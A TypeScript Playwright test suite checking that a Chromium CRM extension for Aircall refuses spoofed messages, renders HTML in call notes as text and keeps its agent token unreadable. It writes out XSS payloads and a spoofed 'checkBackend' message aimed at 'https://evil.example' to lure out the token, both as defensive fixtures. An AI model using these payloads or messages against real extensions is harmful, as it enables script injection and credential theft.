/**
 * Issue 8 "Bad input and trust", the extension in a real Chromium: spoofed
 * messages (a web page's window.postMessage and chrome.runtime, a malformed
 * payload from the content script's own world, another installed extension)
 * are refused and reach neither the backend nor Aircall; a call whose note and
 * summary hold HTML renders them as text; and the agent token cannot be read
 * from a content script, neither from storage nor through any message
 * (EXT-AUTH-1). The backend and sandbox run for real (test/support/world.ts).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, type CDPSession, chromium, type Page, type Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALICE } from '../../lib/aircall/scenarios.ts';
import { CLAIRE } from '../../sandbox/demo.ts';
import {
  CHROME_PATH,
  EXTENSION_DIR,
  type ExtensionBrowser,
  presetOptions,
  serveCrmPages,
} from '../../sandbox/browser.ts';
import { startWorld, type World } from '../support/world.ts';
import { expand, PANEL } from '../extension/support/panel.ts';
import { countingRelay, raw } from './support.ts';

const N = 84;
const PORTAL = 5000 + N;
const claireUrl = `https://app.hubspot.com/contacts/${PORTAL}/record/0-1/${CLAIRE.id}`;
const CALL = 8401;
/** Markup an attacker could put in a note or a summary (Aircall takes any text). */
const XSS_NOTE = '<img src=x onerror="window.__xss=1"><b>bold?</b>';
const XSS_SUMMARY = '<script>window.__xss=2</script><a href="javascript:window.__xss=3">click</a>';

function poll<T>(fn: () => T | Promise<T>) {
  return expect.poll(fn, { timeout: 20_000, interval: 150 });
}

/** A second extension, installed beside ours, that will try to message it. */
function otherExtension(): string {
  const dir = mkdtempSync(join(tmpdir(), 'other-ext-'));
  writeFileSync(
    join(dir, 'manifest.json'),
    JSON.stringify({
      manifest_version: 3,
      name: 'Other extension',
      version: '1.0',
      background: { service_worker: 'other-background.js' },
    }),
  );
  writeFileSync(join(dir, 'other-background.js'), '// waits to be driven by the test\n');
  return dir;
}

describe('spoofed messages, HTML in data and the token, in Chromium', { timeout: 90_000 }, () => {
  let w: World;
  let context: BrowserContext;
  let ours: Worker;
  let theirs: Worker;
  let extensionId = '';
  let page: Page;
  let cdp: CDPSession;
  const cleanup: string[] = [];
  const token = () => w.company.agentTokens.alice;

  async function aircallComments(): Promise<string[]> {
    const auth = `Basic ${Buffer.from(`${w.company.ids.apiId}:${w.company.ids.apiToken}`).toString('base64')}`;
    const r = await raw(`${w.sandbox.aircall.url}/v1/calls/${CALL}`, {
      method: 'GET',
      headers: { authorization: auth },
    });
    return ((r.json.call as { comments: { content: string }[] }).comments ?? []).map((c) => c.content);
  }
  /** Counts what the extension sends to the backend. */
  let relay: Awaited<ReturnType<typeof countingRelay>>;

  /** Evaluate in the content script's isolated world (where our panel runs), through CDP. */
  async function inContentScript<T>(expression: string): Promise<T> {
    const { executionContextId } = await isolatedWorld();
    const r = (await cdp.send('Runtime.evaluate', {
      expression,
      contextId: executionContextId,
      awaitPromise: true,
      returnByValue: true,
    })) as { result: { value: T }; exceptionDetails?: { exception?: { description?: string } } };
    if (r.exceptionDetails) throw new Error(r.exceptionDetails.exception?.description ?? 'evaluation failed');
    return r.result.value;
  }
  let worlds: { id: number; name: string; type: string; origin: string }[] = [];
  /** The content script's world: isolated, named for the extension (Playwright's own worlds are isolated too). */
  async function isolatedWorld(): Promise<{ executionContextId: number }> {
    const ourWorld = (c: (typeof worlds)[number]) =>
      c.type === 'isolated' && (c.name === 'Aircall CRM bridge' || c.origin.includes(extensionId));
    await poll(() => worlds.some(ourWorld)).toBe(true);
    return { executionContextId: worlds.filter(ourWorld).at(-1)?.id ?? -1 };
  }

  beforeAll(async () => {
    w = await startWorld({ store: 'embedded', n: N });
    const agent = await w.seedAircall({ users: [{ ...ALICE, available: true, time_zone: 'Europe/Paris' }] });
    expect(agent.status).toBe(200);
    await w.play({
      call: {
        callId: CALL,
        direction: 'inbound',
        external: CLAIRE.phone,
        answerAfter: 5,
        talk: 60,
        user: ALICE,
        comments: [{ id: 98401, content: XSS_NOTE, by: ALICE }],
        summary: XSS_SUMMARY,
      },
    });
    await w.settle();
    relay = await countingRelay(w.backend.url);

    const other = otherExtension();
    const userDataDir = mkdtempSync(join(tmpdir(), 'aircall-trust-'));
    cleanup.push(other, userDataDir);
    context = await chromium.launchPersistentContext(userDataDir, {
      executablePath: CHROME_PATH,
      headless: true,
      viewport: { width: 1280, height: 800 },
      args: [
        '--no-sandbox',
        `--disable-extensions-except=${EXTENSION_DIR},${other}`,
        `--load-extension=${EXTENSION_DIR},${other}`,
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
    });
    const workers = async () => {
      for (;;) {
        const all = context.serviceWorkers();
        const o = all.find((x) => x.url().endsWith('/background.js'));
        const t = all.find((x) => x.url().endsWith('/other-background.js'));
        if (o && t) return [o, t] as const;
        await context.waitForEvent('serviceworker', { timeout: 20_000 });
      }
    };
    [ours, theirs] = await workers();
    extensionId = new URL(ours.url()).host;
    await serveCrmPages(context);
    const ext: ExtensionBrowser = { context, worker: ours, extensionId, close: async () => undefined };
    await presetOptions(ext, { backendUrl: relay.url, token: token() });

    page = await context.newPage();
    page.on('dialog', (d) => void d.dismiss());
    cdp = await context.newCDPSession(page);
    cdp.on(
      'Runtime.executionContextCreated',
      (e: { context: { id: number; name: string; origin: string; auxData?: { type?: string } } }) =>
        worlds.push({
          id: e.context.id,
          name: e.context.name,
          origin: e.context.origin,
          type: e.context.auxData?.type ?? '',
        }),
    );
    cdp.on('Runtime.executionContextsCleared', () => {
      worlds = [];
    });
    await cdp.send('Runtime.enable');
    await page.goto(claireUrl);
    await expand(page);
    await page.locator(`${PANEL} li[data-call="${CALL}"]`).waitFor({ timeout: 30_000 });
  }, 120_000);

  afterAll(async () => {
    await context?.close();
    await relay?.close();
    await w?.close();
    for (const dir of cleanup) rmSync(dir, { recursive: true, force: true });
  });

  it('a note and a summary holding HTML are shown as text: no element is made from them, no script runs', async () => {
    const item = page.locator(`${PANEL} li[data-call="${CALL}"]`);
    await poll(() => item.innerText()).toContain(XSS_NOTE);
    expect(await item.innerText()).toContain('<script>window.__xss=2</script>');
    expect(await item.locator('img, script, b').count()).toBe(0);
    // The summary's javascript: link is text too, not a link.
    expect(await item.locator('a[href^="javascript:"]').count()).toBe(0);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  });

  it('EXT-AUTH-1: the page itself cannot reach the background: window.postMessage is ignored and it has no chrome.runtime to ours', async () => {
    const before = { requests: relay.count(), comments: await aircallComments() };
    const reach = await page.evaluate(async (id) => {
      window.postMessage({ type: 'addNote', payload: { callId: 8401, content: 'spoofed by the page' } }, '*');
      window.postMessage(
        { type: 'checkBackend', payload: { backendUrl: 'https://evil.example', token: 'x' } },
        '*',
      );
      const runtime = (globalThis as unknown as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome
        ?.runtime;
      if (typeof runtime?.sendMessage !== 'function') return 'no chrome.runtime.sendMessage in the page';
      try {
        await (runtime.sendMessage as (id: string, m: unknown) => Promise<unknown>)(id, {
          type: 'addNote',
          payload: { callId: 8401, content: 'spoofed by the page' },
        });
        return 'answered';
      } catch (err) {
        return `refused: ${(err as Error).message}`;
      }
    }, extensionId);
    expect(reach).not.toBe('answered');
    await page.waitForTimeout(1_000);
    await w.settle();
    expect(await aircallComments()).toEqual(before.comments);
    expect(relay.count()).toBe(before.requests);
  });

  it('a malformed payload from the content script itself is refused by zod and reaches nothing', async () => {
    const before = { requests: relay.count(), comments: await aircallComments() };
    const send = (m: unknown) =>
      inContentScript<{ ok: boolean; failure?: { kind: string; message: string } }>(
        `chrome.runtime.sendMessage(${JSON.stringify(m)})`,
      );
    const bad = [
      { type: 'addNote', payload: { callId: String(CALL), content: 'wrong type' } },
      { type: 'addNote', payload: { callId: CALL, content: 5 } },
      { type: 'addTag', payload: { callId: CALL, tagId: 'VIP' } },
      { type: 'recordActivity', payload: { crm: 'hubspot', objectType: '..', recordId: '..' } },
      { type: 'getSettings', payload: {} },
      { type: 'me', payload: { token: 'x' } },
      'not an object',
    ];
    for (const m of bad) {
      const answer = await send(m);
      expect(answer.ok, JSON.stringify(m)).toBe(false);
      expect(['api', 'extension'], JSON.stringify(answer)).toContain(answer.failure?.kind);
    }
    // checkBackend would send the token to a URL of the sender's choosing: only the options page may ask.
    const steal = await send({
      type: 'checkBackend',
      payload: { backendUrl: 'https://evil.example', token: 'x' },
    });
    expect(steal).toEqual({
      ok: false,
      failure: { kind: 'extension', message: '"checkBackend" is not accepted from this page.' },
    });
    expect(relay.count()).toBe(before.requests);
    expect(await aircallComments()).toEqual(before.comments);
    // The control: a valid message from the same world is answered.
    const me = await send({ type: 'me', payload: {} });
    expect(me.ok).toBe(true);
  });

  it('another installed extension cannot message ours (no external listener): refused, nothing reached', async () => {
    const before = { requests: relay.count(), comments: await aircallComments() };
    const outcome = await theirs.evaluate(async (id) => {
      const c = (
        globalThis as unknown as {
          chrome: { runtime: { sendMessage(id: string, m: unknown): Promise<unknown> } };
        }
      ).chrome;
      try {
        const answer = await c.runtime.sendMessage(id, {
          type: 'addNote',
          payload: { callId: 8401, content: 'from another extension' },
        });
        return `answered: ${JSON.stringify(answer)}`;
      } catch (err) {
        return `refused: ${(err as Error).message}`;
      }
    }, extensionId);
    expect(outcome).toMatch(/^refused: .*(Receiving end does not exist|Could not establish connection)/);
    await w.settle();
    expect(relay.count()).toBe(before.requests);
    expect(await aircallComments()).toEqual(before.comments);
  });

  it('EXT-AUTH-1: the agent token cannot be read from the content script: not in its storage, not in any answer', async () => {
    // Storage the content script can open: local (drafts, the panel's state) and session (closed to it).
    const local = await inContentScript<unknown>('chrome.storage.local.get(null)');
    expect(JSON.stringify(local)).not.toContain(token());
    const session = await inContentScript<string>(
      'chrome.storage.session.get(null).then((v) => JSON.stringify(v), (e) => "refused: " + e.message)',
    );
    expect(session).not.toContain(token());
    // Every message a content script may send, answered: none carries the token.
    const messages = [
      { type: 'me', payload: {} },
      { type: 'inbox', payload: {} },
      { type: 'listTags', payload: {} },
      { type: 'listOutcomes', payload: {} },
      { type: 'getCall', payload: { callId: CALL } },
      { type: 'recordActivity', payload: { crm: 'hubspot', objectType: 'contacts', recordId: CLAIRE.id } },
    ];
    for (const m of messages) {
      const answer = await inContentScript<unknown>(`chrome.runtime.sendMessage(${JSON.stringify(m)})`);
      expect(JSON.stringify(answer), m.type).not.toContain(token());
      expect((answer as { ok: boolean }).ok, `${m.type}: ${JSON.stringify(answer)}`).toBe(true);
    }
    // The page's own world sees neither storage nor the extension's.
    const pageWorld = await page.evaluate(() => JSON.stringify({ ...localStorage }) + document.cookie);
    expect(pageWorld).not.toContain(token());
  });
});
